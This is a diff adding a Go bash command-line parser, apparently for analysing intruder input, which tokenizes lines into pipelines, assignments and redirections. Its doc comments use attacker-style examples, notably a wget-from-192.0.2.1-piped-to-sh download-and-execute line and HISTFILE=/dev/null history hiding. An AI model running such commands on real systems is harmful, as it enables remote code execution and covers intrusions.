@@ -0,0 +1,413 @@
+package shell
+
+import (
+	"fmt"
+	"strings"
+)
+
+// Error of the syntax of a command line, with the message of bash
+type SyntaxError struct {
+	msg string
+}
+
+func (e *SyntaxError) Error() string {
+	return e.msg
+}
+
+func unexpected(token string) error {
+	return &SyntaxError{fmt.Sprintf("syntax error near unexpected token `%s'", token)}
+}
+
+func unmatched(c byte) error {
+	return &SyntaxError{fmt.Sprintf("unexpected EOF while looking for matching `%c'", c)}
+}
+
+// Redirection of a command, e.g., "2>/dev/null"
+type Redirect struct {
+	// Descriptor redirected, 0 for the input
+	Fd int `json:"fd"`
+	// One of ">", ">>", "<" or ">&", the last one to duplicate a descriptor, e.g., "2>&1"
+	Op string `json:"op"`
+	// Word of the target, not expanded
+	Target string `json:"target"`
+}
+
+// Command with its words and redirections, not expanded, e.g., "wget $URL -O /tmp/a"
+type SimpleCommand struct {
+	// Variables set for the command, e.g., "HISTFILE=/dev/null"
+	Assignments []string
+	Words       []string
+	Redirects   []Redirect
+}
+
+// Commands whose output is the input of the next one, e.g., "cat a | sh"
+type Pipeline []*SimpleCommand
+
+// Pipelines run depending on the status of the previous one, e.g., "cd /tmp || cd /var/run"
+type AndOr struct {
+	Pipelines []Pipeline
+	// Operators between the pipelines, "&&" or "||"
+	Operators []string
+}
+
+// Commands of a line, run one after the other
+type List []*AndOr
+
+// Names of the special variables, e.g., "$?"
+const specialVars = "?$#!@*0123456789"
+
+// Operators, the longest first
+var operators = []string{"&&", "||", ">>", "&>", ">&", ";", "&", "|", ">", "<", "\n", "(", ")"}
+
+// Token of a command line, either an operator or a word with its quotes
+type token struct {
+	op   string
+	word string
+}
+
+// Split a command line in words and operators, keeping the quotes of the words
+func tokenize(line string) (tokens []token, err error) {
+	for i := 0; i < len(line); {
+		c := line[i]
+		switch {
+		case c == ' ' || c == '\t' || c == '\r':
+			i++
+			continue
+		case c == '#':
+			// Comment until the end of the line
+			for i < len(line) && line[i] != '\n' {
+				i++
+			}
+			continue
+		}
+
+		if op := operatorAt(line, i); op != "" {
+			tokens = append(tokens, token{op: op})
+			i += len(op)
+			continue
+		}
+
+		end, err := wordEnd(line, i)
+		if err != nil {
+			return nil, err
+		}
+
+		// Descriptor of a redirection, e.g., "2>"
+		word := line[i:end]
+		if op := operatorAt(line, end); (op == ">" || op == ">>" || op == "<" || op == ">&") && isNumber(word) {
+			tokens = append(tokens, token{op: word + op})
+			i = end + len(op)
+			continue
+		}
+
+		tokens = append(tokens, token{word: word})
+		i = end
+	}
+	return
+}
+
+func operatorAt(line string, i int) string {
+	for _, op := range operators {
+		if strings.HasPrefix(line[i:], op) {
+			return op
+		}
+	}
+	return ""
+}
+
+func isNumber(s string) bool {
+	return s != "" && strings.Trim(s, "0123456789") == ""
+}
+
+// Returns the end of the word that starts at i
+func wordEnd(line string, i int) (int, error) {
+	for i < len(line) {
+		c := line[i]
+		switch {
+		case c == ' ' || c == '\t' || c == '\r' || operatorAt(line, i) != "":
+			return i, nil
+		case c == '\\':
+			i += 2
+		case c == '\'':
+			end := strings.IndexByte(line[i+1:], '\'')
+			if end < 0 {
+				return 0, unmatched('\'')
+			}
+			i += end + 2
+		case c == '"':
+			end, err := quoteEnd(line, i+1)
+			if err != nil {
+				return 0, err
+			}
+			i = end + 1
+		case c == '$' || c == '`':
+			end, err := expansionEnd(line, i)
+			if err != nil {
+				return 0, err
+			}
+			i = end
+		default:
+			i++
+		}
+	}
+	return len(line), nil
+}
+
+// Returns the position of the quote that ends a double-quoted string starting at i
+func quoteEnd(line string, i int) (int, error) {
+	for i < len(line) {
+		switch line[i] {
+		case '"':
+			return i, nil
+		case '\\':
+			i += 2
+		case '$', '`':
+			end, err := expansionEnd(line, i)
+			if err != nil {
+				return 0, err
+			}
+			i = end
+		default:
+			i++
+		}
+	}
+	return 0, unmatched('"')
+}
+
+// Returns the end of an expansion that starts at i, e.g., "$(uname -a)", "${HOME}" or "`id`"
+func expansionEnd(line string, i int) (int, error) {
+	switch {
+	case line[i] == '`':
+		for j := i + 1; j < len(line); j++ {
+			switch line[j] {
+			case '\\':
+				j++
+			case '`':
+				return j + 1, nil
+			}
+		}
+		return 0, unmatched('`')
+	case strings.HasPrefix(line[i:], "${"):
+		end := strings.IndexByte(line[i:], '}')
+		if end < 0 {
+			return 0, unmatched('}')
+		}
+		return i + end + 1, nil
+	case strings.HasPrefix(line[i:], "$("):
+		depth := 0
+		for j := i + 1; j < len(line); j++ {
+			switch line[j] {
+			case '\\':
+				j++
+			case '\'':
+				end := strings.IndexByte(line[j+1:], '\'')
+				if end < 0 {
+					return 0, unmatched('\'')
+				}
+				j += end + 1
+			case '"':
+				end, err := quoteEnd(line, j+1)
+				if err != nil {
+					return 0, err
+				}
+				j = end
+			case '(':
+				depth++
+			case ')':
+				if depth--; depth == 0 {
+					return j + 1, nil
+				}
+			}
+		}
+		return 0, unmatched(')')
+	case line[i] == '$' && i+1 < len(line) && strings.IndexByte(specialVars, line[i+1]) >= 0:
+		// Special variable, e.g., "$$" or "$?"
+		return i + 2, nil
+	}
+	return i + 1, nil
+}
+
+// Parse a command line, e.g., "cd /tmp && wget http://192.0.2.1/a.sh -O- | sh"
+func Parse(line string) (list List, err error) {
+	tokens, err := tokenize(line)
+	if err != nil {
+		return nil, err
+	}
+
+	p := &parser{tokens: tokens}
+	for {
+		// Empty lines are allowed
+		for p.peek() == "\n" {
+			p.next()
+		}
+		if p.done() {
+			return
+		}
+
+		andOr, err := p.andOr()
+		if err != nil {
+			return nil, err
+		}
+		list = append(list, andOr)
+
+		switch op := p.peek(); op {
+		case "", "\n":
+		case ";", "&":
+			// The commands sent to the background run as the rest
+			p.next()
+		default:
+			return nil, unexpected(op)
+		}
+	}
+}
+
+type parser struct {
+	tokens []token
+	pos    int
+}
+
+func (p *parser) done() bool {
+	return p.pos >= len(p.tokens)
+}
+
+// Returns the operator of the current token, empty for words and the end of the line
+func (p *parser) peek() string {
+	if p.done() {
+		return ""
+	}
+	return p.tokens[p.pos].op
+}
+
+func (p *parser) next() token {
+	t := p.tokens[p.pos]
+	p.pos++
+	return t
+}
+
+// Returns the error of the current token, as bash names it
+func (p *parser) unexpected() error {
+	if op := p.peek(); op != "" && op != "\n" {
+		return unexpected(op)
+	}
+	return unexpected("newline")
+}
+
+func (p *parser) andOr() (*AndOr, error) {
+	pipeline, err := p.pipeline()
+	if err != nil {
+		return nil, err
+	}
+
+	andOr := &AndOr{Pipelines: []Pipeline{pipeline}}
+	for op := p.peek(); op == "&&" || op == "||"; op = p.peek() {
+		p.next()
+		for p.peek() == "\n" {
+			p.next()
+		}
+		if p.done() {
+			return nil, &SyntaxError{"syntax error: unexpected end of file"}
+		}
+
+		if pipeline, err = p.pipeline(); err != nil {
+			return nil, err
+		}
+		andOr.Pipelines = append(andOr.Pipelines, pipeline)
+		andOr.Operators = append(andOr.Operators, op)
+	}
+	return andOr, nil
+}
+
+func (p *parser) pipeline() (pipeline Pipeline, err error) {
+	for {
+		command, err := p.command()
+		if err != nil {
+			return nil, err
+		}
+		pipeline = append(pipeline, command)
+
+		if p.peek() != "|" {
+			return pipeline, nil
+		}
+		p.next()
+		for p.peek() == "\n" {
+			p.next()
+		}
+		if p.done() {
+			return nil, &SyntaxError{"syntax error: unexpected end of file"}
+		}
+	}
+}
+
+func (p *parser) command() (*SimpleCommand, error) {
+	command := &SimpleCommand{}
+	for !p.done() {
+		t := p.tokens[p.pos]
+		if t.op == "" {
+			p.next()
+			if len(command.Words) == 0 && isAssignment(t.word) {
+				command.Assignments = append(command.Assignments, t.word)
+			} else {
+				command.Words = append(command.Words, t.word)
+			}
+			continue
+		}
+
+		redirect, ok := parseRedirect(t.op)
+		if !ok {
+			break
+		}
+		p.next()
+
+		if p.done() || p.peek() != "" {
+			return nil, p.unexpected()
+		}
+		redirect.Target = p.next().word
+		command.Redirects = append(command.Redirects, redirect)
+	}
+
+	if len(command.Words) == 0 && len(command.Assignments) == 0 && len(command.Redirects) == 0 {
+		return nil, p.unexpected()
+	}
+	return command, nil
+}
+
+// Returns the redirection of an operator, e.g., "2>>"
+func parseRedirect(op string) (r Redirect, ok bool) {
+	fd := ""
+	for len(op) > 0 && op[0] >= '0' && op[0] <= '9' {
+		fd, op = fd+op[:1], op[1:]
+	}
+
+	switch op {
+	case ">", ">>", ">&":
+		r = Redirect{Fd: 1, Op: op}
+	case "&>":
+		// The output and the errors go to the same file
+		r = Redirect{Fd: 1, Op: ">"}
+	case "<":
+		r = Redirect{Fd: 0, Op: op}
+	default:
+		return r, false
+	}
+
+	if fd != "" {
+		fmt.Sscan(fd, &r.Fd)
+	}
+	return r, true
+}
+
+// Whether a word sets a variable, e.g., "PATH=/tmp:$PATH"
+func isAssignment(word string) bool {
+	eq := strings.IndexByte(word, '=')
+	return eq > 0 && isName(word[:eq])
+}
+
+// Whether a string is the name of a variable
+func isName(s string) bool {
+	for i, c := range s {
+		if !(c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || i > 0 && c >= '0' && c <= '9') {
+			return false
+		}
+	}
+	return s != ""
+}